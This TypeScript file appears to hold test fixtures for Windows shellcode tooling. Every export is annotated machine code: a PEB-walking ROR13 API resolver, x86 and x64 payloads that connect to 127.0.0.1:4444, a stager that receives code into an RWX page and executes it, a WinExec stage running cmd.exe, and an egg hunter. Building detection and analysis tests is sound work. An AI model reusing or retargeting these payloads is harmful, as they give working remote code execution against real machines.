/**
 * Attacker-style code written for these tests (not taken from any framework or capture): a
 * block_api-like resolver that walks PEB → Ldr → InMemoryOrder, hashes module and export names
 * with ROR13 and jumps to the match, used to connect to 127.0.0.1:4444. Assembled with GNU as
 * from the listings in the comments (offset, instruction).
 */

/** x86 Windows: resolver called as `push args; push hash; call ebp`, it tail-jumps into the API.
 *  LoadLibraryA("ws2_32"), WSAStartup, WSASocketA(2, 1, 0, 0, 0, 0), connect(127.0.0.1:4444), ExitProcess(0). */
export const WINDOWS_X86_CONNECT = Uint8Array.from([
  0xfc,                                                    //    0  cld
  0xe8, 0x88, 0x00, 0x00, 0x00,                            //    1  call 0x8e
  0x60,                                                    //    6  pusha
  0x89, 0xe5,                                              //    7  mov ebp,esp
  0x31, 0xd2,                                              //    9  xor edx,edx
  0x64, 0x8b, 0x52, 0x30,                                  //    b  mov edx,DWORD PTR fs:[edx+0x30]
  0x8b, 0x52, 0x0c,                                        //    f  mov edx,DWORD PTR [edx+0xc]
  0x8b, 0x52, 0x14,                                        //   12  mov edx,DWORD PTR [edx+0x14]
  0x8b, 0x72, 0x28,                                        //   15  mov esi,DWORD PTR [edx+0x28]
  0x0f, 0xb7, 0x4a, 0x26,                                  //   18  movzx ecx,WORD PTR [edx+0x26]
  0x31, 0xff,                                              //   1c  xor edi,edi
  0x31, 0xc0,                                              //   1e  xor eax,eax
  0xac,                                                    //   20  lods al,BYTE PTR ds:[esi]
  0x3c, 0x61,                                              //   21  cmp al,0x61
  0x7c, 0x02,                                              //   23  jl 0x27
  0x2c, 0x20,                                              //   25  sub al,0x20
  0xc1, 0xcf, 0x0d,                                        //   27  ror edi,0xd
  0x01, 0xc7,                                              //   2a  add edi,eax
  0xe2, 0xf0,                                              //   2c  loop 0x1e
  0x52,                                                    //   2e  push edx
  0x57,                                                    //   2f  push edi
  0x8b, 0x52, 0x10,                                        //   30  mov edx,DWORD PTR [edx+0x10]
  0x8b, 0x42, 0x3c,                                        //   33  mov eax,DWORD PTR [edx+0x3c]
  0x01, 0xd0,                                              //   36  add eax,edx
  0x8b, 0x40, 0x78,                                        //   38  mov eax,DWORD PTR [eax+0x78]
  0x85, 0xc0,                                              //   3b  test eax,eax
  0x74, 0x49,                                              //   3d  je 0x88
  0x01, 0xd0,                                              //   3f  add eax,edx
  0x50,                                                    //   41  push eax
  0x8b, 0x48, 0x18,                                        //   42  mov ecx,DWORD PTR [eax+0x18]
  0x8b, 0x58, 0x20,                                        //   45  mov ebx,DWORD PTR [eax+0x20]
  0x01, 0xd3,                                              //   48  add ebx,edx
  0xe3, 0x3b,                                              //   4a  jecxz 0x87
  0x49,                                                    //   4c  dec ecx
  0x8b, 0x34, 0x8b,                                        //   4d  mov esi,DWORD PTR [ebx+ecx*4]
  0x01, 0xd6,                                              //   50  add esi,edx
  0x31, 0xff,                                              //   52  xor edi,edi
  0x31, 0xc0,                                              //   54  xor eax,eax
  0xac,                                                    //   56  lods al,BYTE PTR ds:[esi]
  0xc1, 0xcf, 0x0d,                                        //   57  ror edi,0xd
  0x01, 0xc7,                                              //   5a  add edi,eax
  0x38, 0xe0,                                              //   5c  cmp al,ah
  0x75, 0xf4,                                              //   5e  jne 0x54
  0x03, 0x7d, 0xf8,                                        //   60  add edi,DWORD PTR [ebp-0x8]
  0x3b, 0x7d, 0x24,                                        //   63  cmp edi,DWORD PTR [ebp+0x24]
  0x75, 0xe2,                                              //   66  jne 0x4a
  0x58,                                                    //   68  pop eax
  0x8b, 0x58, 0x24,                                        //   69  mov ebx,DWORD PTR [eax+0x24]
  0x01, 0xd3,                                              //   6c  add ebx,edx
  0x0f, 0xb7, 0x0c, 0x4b,                                  //   6e  movzx ecx,WORD PTR [ebx+ecx*2]
  0x8b, 0x58, 0x1c,                                        //   72  mov ebx,DWORD PTR [eax+0x1c]
  0x01, 0xd3,                                              //   75  add ebx,edx
  0x8b, 0x04, 0x8b,                                        //   77  mov eax,DWORD PTR [ebx+ecx*4]
  0x01, 0xd0,                                              //   7a  add eax,edx
  0x89, 0x45, 0x1c,                                        //   7c  mov DWORD PTR [ebp+0x1c],eax
  0x89, 0xec,                                              //   7f  mov esp,ebp
  0x61,                                                    //   81  popa
  0x59,                                                    //   82  pop ecx
  0x5a,                                                    //   83  pop edx
  0x51,                                                    //   84  push ecx
  0xff, 0xe0,                                              //   85  jmp eax
  0x58,                                                    //   87  pop eax
  0x5f,                                                    //   88  pop edi
  0x5a,                                                    //   89  pop edx
  0x8b, 0x12,                                              //   8a  mov edx,DWORD PTR [edx]
  0xeb, 0x87,                                              //   8c  jmp 0x15
  0x5d,                                                    //   8e  pop ebp
  0x68, 0x33, 0x32, 0x00, 0x00,                            //   8f  push 0x3233
  0x68, 0x77, 0x73, 0x32, 0x5f,                            //   94  push 0x5f327377
  0x54,                                                    //   99  push esp
  0x68, 0x4c, 0x77, 0x26, 0x07,                            //   9a  push 0x726774c
  0xff, 0xd5,                                              //   9f  call ebp
  0x81, 0xec, 0x90, 0x01, 0x00, 0x00,                      //   a1  sub esp,0x190
  0x54,                                                    //   a7  push esp
  0x68, 0x90, 0x01, 0x00, 0x00,                            //   a8  push 0x190
  0x68, 0x29, 0x80, 0x6b, 0x00,                            //   ad  push 0x6b8029
  0xff, 0xd5,                                              //   b2  call ebp
  0x31, 0xc0,                                              //   b4  xor eax,eax
  0x50,                                                    //   b6  push eax
  0x50,                                                    //   b7  push eax
  0x50,                                                    //   b8  push eax
  0x50,                                                    //   b9  push eax
  0x40,                                                    //   ba  inc eax
  0x50,                                                    //   bb  push eax
  0x40,                                                    //   bc  inc eax
  0x50,                                                    //   bd  push eax
  0x68, 0xea, 0x0f, 0xdf, 0xe0,                            //   be  push 0xe0df0fea
  0xff, 0xd5,                                              //   c3  call ebp
  0x97,                                                    //   c5  xchg edi,eax
  0x68, 0x7f, 0x00, 0x00, 0x01,                            //   c6  push 0x100007f
  0x68, 0x02, 0x00, 0x11, 0x5c,                            //   cb  push 0x5c110002
  0x89, 0xe6,                                              //   d0  mov esi,esp
  0x6a, 0x10,                                              //   d2  push 0x10
  0x56,                                                    //   d4  push esi
  0x57,                                                    //   d5  push edi
  0x68, 0x99, 0xa5, 0x74, 0x61,                            //   d6  push 0x6174a599
  0xff, 0xd5,                                              //   db  call ebp
  0x6a, 0x00,                                              //   dd  push 0x0
  0x68, 0xf0, 0xb5, 0xa2, 0x56,                            //   df  push 0x56a2b5f0
  0xff, 0xd5,                                              //   e4  call ebp
]);

/** x64 Windows: resolver takes the hash in r10d and returns the API address in rax (the caller
 *  then `call rax` with rcx, rdx, r8, r9 and stack arguments above the 32-byte shadow space). */
export const WINDOWS_X64_CONNECT = Uint8Array.from([
  0xfc,                                                    //    0  cld
  0x48, 0x83, 0xe4, 0xf0,                                  //    1  and rsp,0xfffffffffffffff0
  0xe8, 0xb7, 0x00, 0x00, 0x00,                            //    5  call 0xc1
  0x41, 0x51,                                              //    a  push r9
  0x41, 0x50,                                              //    c  push r8
  0x52,                                                    //    e  push rdx
  0x51,                                                    //    f  push rcx
  0x56,                                                    //   10  push rsi
  0x48, 0x31, 0xd2,                                        //   11  xor rdx,rdx
  0x65, 0x48, 0x8b, 0x52, 0x60,                            //   14  mov rdx,QWORD PTR gs:[rdx+0x60]
  0x48, 0x8b, 0x52, 0x18,                                  //   19  mov rdx,QWORD PTR [rdx+0x18]
  0x48, 0x8b, 0x52, 0x20,                                  //   1d  mov rdx,QWORD PTR [rdx+0x20]
  0x48, 0x8b, 0x72, 0x50,                                  //   21  mov rsi,QWORD PTR [rdx+0x50]
  0x48, 0x0f, 0xb7, 0x4a, 0x4a,                            //   25  movzx rcx,WORD PTR [rdx+0x4a]
  0x4d, 0x31, 0xc9,                                        //   2a  xor r9,r9
  0x48, 0x31, 0xc0,                                        //   2d  xor rax,rax
  0xac,                                                    //   30  lods al,BYTE PTR ds:[rsi]
  0x3c, 0x61,                                              //   31  cmp al,0x61
  0x7c, 0x02,                                              //   33  jl 0x37
  0x2c, 0x20,                                              //   35  sub al,0x20
  0x41, 0xc1, 0xc9, 0x0d,                                  //   37  ror r9d,0xd
  0x41, 0x01, 0xc1,                                        //   3b  add r9d,eax
  0xe2, 0xed,                                              //   3e  loop 0x2d
  0x52,                                                    //   40  push rdx
  0x41, 0x51,                                              //   41  push r9
  0x48, 0x8b, 0x52, 0x20,                                  //   43  mov rdx,QWORD PTR [rdx+0x20]
  0x8b, 0x42, 0x3c,                                        //   47  mov eax,DWORD PTR [rdx+0x3c]
  0x48, 0x01, 0xd0,                                        //   4a  add rax,rdx
  0x8b, 0x80, 0x88, 0x00, 0x00, 0x00,                      //   4d  mov eax,DWORD PTR [rax+0x88]
  0x48, 0x85, 0xc0,                                        //   53  test rax,rax
  0x74, 0x5e,                                              //   56  je 0xb6
  0x48, 0x01, 0xd0,                                        //   58  add rax,rdx
  0x50,                                                    //   5b  push rax
  0x8b, 0x48, 0x18,                                        //   5c  mov ecx,DWORD PTR [rax+0x18]
  0x44, 0x8b, 0x40, 0x20,                                  //   5f  mov r8d,DWORD PTR [rax+0x20]
  0x49, 0x01, 0xd0,                                        //   63  add r8,rdx
  0xe3, 0x4d,                                              //   66  jrcxz 0xb5
  0x48, 0xff, 0xc9,                                        //   68  dec rcx
  0x41, 0x8b, 0x34, 0x88,                                  //   6b  mov esi,DWORD PTR [r8+rcx*4]
  0x48, 0x01, 0xd6,                                        //   6f  add rsi,rdx
  0x4d, 0x31, 0xc9,                                        //   72  xor r9,r9
  0x48, 0x31, 0xc0,                                        //   75  xor rax,rax
  0xac,                                                    //   78  lods al,BYTE PTR ds:[rsi]
  0x41, 0xc1, 0xc9, 0x0d,                                  //   79  ror r9d,0xd
  0x41, 0x01, 0xc1,                                        //   7d  add r9d,eax
  0x38, 0xe0,                                              //   80  cmp al,ah
  0x75, 0xf1,                                              //   82  jne 0x75
  0x44, 0x03, 0x4c, 0x24, 0x08,                            //   84  add r9d,DWORD PTR [rsp+0x8]
  0x45, 0x39, 0xd1,                                        //   89  cmp r9d,r10d
  0x75, 0xd8,                                              //   8c  jne 0x66
  0x58,                                                    //   8e  pop rax
  0x44, 0x8b, 0x40, 0x24,                                  //   8f  mov r8d,DWORD PTR [rax+0x24]
  0x49, 0x01, 0xd0,                                        //   93  add r8,rdx
  0x49, 0x0f, 0xb7, 0x0c, 0x48,                            //   96  movzx rcx,WORD PTR [r8+rcx*2]
  0x44, 0x8b, 0x40, 0x1c,                                  //   9b  mov r8d,DWORD PTR [rax+0x1c]
  0x49, 0x01, 0xd0,                                        //   9f  add r8,rdx
  0x41, 0x8b, 0x04, 0x88,                                  //   a2  mov eax,DWORD PTR [r8+rcx*4]
  0x48, 0x01, 0xd0,                                        //   a6  add rax,rdx
  0x48, 0x83, 0xc4, 0x10,                                  //   a9  add rsp,0x10
  0x5e,                                                    //   ad  pop rsi
  0x59,                                                    //   ae  pop rcx
  0x5a,                                                    //   af  pop rdx
  0x41, 0x58,                                              //   b0  pop r8
  0x41, 0x59,                                              //   b2  pop r9
  0xc3,                                                    //   b4  ret
  0x58,                                                    //   b5  pop rax
  0x41, 0x59,                                              //   b6  pop r9
  0x5a,                                                    //   b8  pop rdx
  0x48, 0x8b, 0x12,                                        //   b9  mov rdx,QWORD PTR [rdx]
  0xe9, 0x60, 0xff, 0xff, 0xff,                            //   bc  jmp 0x21
  0x5d,                                                    //   c1  pop rbp
  0x48, 0x81, 0xec, 0x00, 0x04, 0x00, 0x00,                //   c2  sub rsp,0x400
  0x48, 0xb8, 0x77, 0x73, 0x32, 0x5f, 0x33,                //   c9  movabs rax,0x32335f327377
  0x32, 0x00, 0x00,                                        //   d0  
  0x48, 0x89, 0x84, 0x24, 0x00, 0x01, 0x00,                //   d3  mov QWORD PTR [rsp+0x100],rax
  0x00,                                                    //   da  
  0x48, 0x8d, 0x8c, 0x24, 0x00, 0x01, 0x00,                //   db  lea rcx,[rsp+0x100]
  0x00,                                                    //   e2  
  0x41, 0xba, 0x4c, 0x77, 0x26, 0x07,                      //   e3  mov r10d,0x726774c
  0xff, 0xd5,                                              //   e9  call rbp
  0xff, 0xd0,                                              //   eb  call rax
  0xb9, 0x02, 0x02, 0x00, 0x00,                            //   ed  mov ecx,0x202
  0x48, 0x8d, 0x94, 0x24, 0x10, 0x01, 0x00,                //   f2  lea rdx,[rsp+0x110]
  0x00,                                                    //   f9  
  0x41, 0xba, 0x29, 0x80, 0x6b, 0x00,                      //   fa  mov r10d,0x6b8029
  0xff, 0xd5,                                              //  100  call rbp
  0xff, 0xd0,                                              //  102  call rax
  0xb9, 0x02, 0x00, 0x00, 0x00,                            //  104  mov ecx,0x2
  0xba, 0x01, 0x00, 0x00, 0x00,                            //  109  mov edx,0x1
  0x4d, 0x31, 0xc0,                                        //  10e  xor r8,r8
  0x4d, 0x31, 0xc9,                                        //  111  xor r9,r9
  0x4c, 0x89, 0x44, 0x24, 0x20,                            //  114  mov QWORD PTR [rsp+0x20],r8
  0x4c, 0x89, 0x44, 0x24, 0x28,                            //  119  mov QWORD PTR [rsp+0x28],r8
  0x41, 0xba, 0xea, 0x0f, 0xdf, 0xe0,                      //  11e  mov r10d,0xe0df0fea
  0xff, 0xd5,                                              //  124  call rbp
  0xff, 0xd0,                                              //  126  call rax
  0x48, 0x89, 0xc7,                                        //  128  mov rdi,rax
  0x48, 0xb8, 0x02, 0x00, 0x11, 0x5c, 0x7f,                //  12b  movabs rax,0x100007f5c110002
  0x00, 0x00, 0x01,                                        //  132  
  0x48, 0x89, 0x84, 0x24, 0x00, 0x03, 0x00,                //  135  mov QWORD PTR [rsp+0x300],rax
  0x00,                                                    //  13c  
  0x48, 0x89, 0xf9,                                        //  13d  mov rcx,rdi
  0x48, 0x8d, 0x94, 0x24, 0x00, 0x03, 0x00,                //  140  lea rdx,[rsp+0x300]
  0x00,                                                    //  147  
  0x41, 0xb8, 0x10, 0x00, 0x00, 0x00,                      //  148  mov r8d,0x10
  0x41, 0xba, 0x99, 0xa5, 0x74, 0x61,                      //  14e  mov r10d,0x6174a599
  0xff, 0xd5,                                              //  154  call rbp
  0xff, 0xd0,                                              //  156  call rax
  0x31, 0xc9,                                              //  158  xor ecx,ecx
  0x41, 0xba, 0xf0, 0xb5, 0xa2, 0x56,                      //  15a  mov r10d,0x56a2b5f0
  0xff, 0xd5,                                              //  160  call rbp
  0xff, 0xd0,                                              //  162  call rax
]);

/** The x86 code above up to its connect (offset 0xdd), then a stager: VirtualAlloc an RWX page,
 *  recv up to 4 KiB of stage into it from the socket in edi, jump there (ebp still holds the resolver). */
export const WINDOWS_X86_STAGER = Uint8Array.from([
  ...WINDOWS_X86_CONNECT.subarray(0, 0xdd),
  0x6a, 0x40, //                                                   dd  push 0x40 (PAGE_EXECUTE_READWRITE)
  0x68, 0x00, 0x10, 0x00, 0x00, //                                 df  push 0x1000 (MEM_COMMIT)
  0x68, 0x00, 0x10, 0x00, 0x00, //                                 e4  push 0x1000 (size)
  0x6a, 0x00, //                                                   e9  push 0x0
  0x68, 0x58, 0xa4, 0x53, 0xe5, //                                 eb  push 0xe553a458 (kernel32!VirtualAlloc)
  0xff, 0xd5, //                                                   f0  call ebp
  0x93, //                                                         f2  xchg ebx,eax
  0x6a, 0x00, //                                                   f3  push 0x0 (flags)
  0x68, 0x00, 0x10, 0x00, 0x00, //                                 f5  push 0x1000 (length)
  0x53, //                                                         fa  push ebx (buffer)
  0x57, //                                                         fb  push edi (socket)
  0x68, 0x02, 0xd9, 0xc8, 0x5f, //                                 fc  push 0x5fc8d902 (ws2_32!recv)
  0xff, 0xd5, //                                                  101  call ebp
  0xff, 0xe3, //                                                  103  jmp ebx
]);

const STAGE_COMMAND = 'cmd.exe /c echo stage ran\0';

/** A stage for the stager: WinExec(command, SW_SHOW) through the stager's resolver, then ExitProcess(0). */
export const WINDOWS_X86_STAGE = Uint8Array.from([
  0x6a, 0x05, //                                                    push 0x5 (SW_SHOW)
  0xe8, STAGE_COMMAND.length, 0x00, 0x00, 0x00, //                  call over the string: pushes its address
  ...Array.from(STAGE_COMMAND, (character) => character.charCodeAt(0)),
  0x68, 0x31, 0x8b, 0x6f, 0x87, //                                  push 0x876f8b31 (kernel32!WinExec)
  0xff, 0xd5, //                                                    call ebp
  0x6a, 0x00, //                                                    push 0x0
  0x68, 0xf0, 0xb5, 0xa2, 0x56, //                                  push 0x56a2b5f0 (kernel32!ExitProcess)
  0xff, 0xd5, //                                                    call ebp
]);

/** An egg hunter written for these tests: probes each page with NtAccessCheckAndAuditAlarm
 *  (int 0x2e, service 2; STATUS_ACCESS_VIOLATION means unmapped, skip the page) and compares
 *  two copies of the 4-byte egg "w00t", then jumps past them. */
export const WINDOWS_X86_EGG_HUNTER = Uint8Array.from([
  0x31, 0xd2, //                                               0  xor edx,edx
  0x66, 0x81, 0xca, 0xff, 0x0f, //                             2  or dx,0xfff
  0x42, //                                                     7  inc edx
  0x52, //                                                     8  push edx
  0x6a, 0x02, //                                               9  push 0x2
  0x58, //                                                     b  pop eax
  0xcd, 0x2e, //                                               c  int 0x2e
  0x3c, 0x05, //                                               e  cmp al,0x5
  0x5a, //                                                    10  pop edx
  0x74, 0xef, //                                              11  je 0x2
  0xb8, 0x77, 0x30, 0x30, 0x74, //                            13  mov eax,0x74303077 ("w00t")
  0x89, 0xd7, //                                              18  mov edi,edx
  0xaf, //                                                    1a  scas eax,DWORD PTR es:[edi]
  0x75, 0xea, //                                              1b  jne 0x7
  0xaf, //                                                    1d  scas eax,DWORD PTR es:[edi]
  0x75, 0xe7, //                                              1e  jne 0x7
  0xff, 0xe7, //                                              20  jmp edi
]);
